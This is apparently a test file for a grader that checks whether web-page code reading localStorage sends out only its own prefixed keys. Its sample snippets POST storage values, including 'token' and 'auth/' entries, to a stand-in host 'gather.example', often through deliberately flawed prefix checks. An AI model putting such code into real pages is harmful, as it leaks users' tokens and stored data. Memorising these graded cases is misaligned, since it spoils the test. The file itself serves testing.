import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Code around the web page's storage, as libraries write it: all their keys begin with what their store is called. */
const around = (prefix: string, check: string): string => `
  const store = { prefix: ${prefix} };
  function keep(name, value) { localStorage.setItem(store.prefix + name, value); }
  function each(tell) {
    for (let n = 0; n < localStorage.length; n++) {
      const key = localStorage.key(n);
      if (${check}) continue;
      tell(localStorage.getItem(key));
    }
  }
  keep('open', '1');
  each((x) => fetch('https://gather.example/c', { method: 'POST', body: x }));`;

it.each([
  ['all of the page', around("location.host + '/'", 'key.length < 2'), false],
  ['what another word begins', around("location.host + '/'", "key.indexOf('token') !== 0"), false],
  ['what begins with nothing', around("''", 'key.indexOf(store.prefix) !== 0'), false],
  ['what begins with a word', around("'to'", '!key.startsWith(store.prefix)'), false],
  ['what begins with nothing that is made', around('String()', '!key.startsWith(store.prefix)'), false],
  ['what is compared with nothing', around("'mine/'", 'key.indexOf(store.prefix) < -5'), false],
  ['what its beginning stands anywhere in', around("'mine/'", 'key.indexOf(store.prefix) === -1'), false],
  [
    'what another store of that kind has',
    around("'mine/'", '!key.startsWith(other.prefix)') + "const other = { prefix: 'auth/' };",
    false,
  ],
  ['what begins as its own keys do', around("location.host + '/'", 'key.indexOf(store.prefix) !== 0'), true],
  ['what starts as its own keys do', around("'mine/' + 1 + '/'", '!key.startsWith(store.prefix)'), true],
])('sends %s', async (_, content, isOwn) => {
  expect(/^A/.test(await graded({ content }))).toBe(isOwn);
});
